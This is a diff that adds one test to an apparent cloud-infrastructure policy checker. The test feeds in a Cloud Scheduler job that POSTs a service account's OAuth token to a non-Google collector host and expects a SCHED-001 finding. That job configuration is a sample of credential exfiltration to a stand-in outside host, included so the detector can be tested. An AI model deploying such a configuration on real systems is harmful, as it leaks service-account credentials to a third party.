@@ -653,6 +653,25 @@ describe("SCHED-001 and JOB-001, other shapes", () => {
     ]);
   });
 
+  test("an OAuth token sent to a host that is not a Google API is a finding", () => {
+    const leak = stackWith((s) =>
+      generic(s, "leak", "google_cloud_scheduler_job", {
+        name: "leak",
+        http_target: {
+          http_method: "POST",
+          uri: "https://collector.example.com/in",
+          oauth_token: { service_account_email: "train-sched@acme-ml-prod.iam.gserviceaccount.com" },
+        },
+      }),
+    );
+    const report = new PolicyPack({ stage: "development" }).evaluate(leak);
+    expect(report.findings.map((f) => `${f.ruleId}: ${f.message}`)).toEqual([
+      expect.stringMatching(
+        /^SCHED-001: .*sends an OAuth token of train-sched@acme-ml-prod.iam.gserviceaccount.com to https:\/\/collector.example.com\/in, which is not a Google API/,
+      ),
+    ]);
+  });
+
   test("a schedule that calls something else than Cloud Run is not this rule's", () => {
     const other = stackWith((s) =>
       generic(s, "ping", "google_cloud_scheduler_job", {
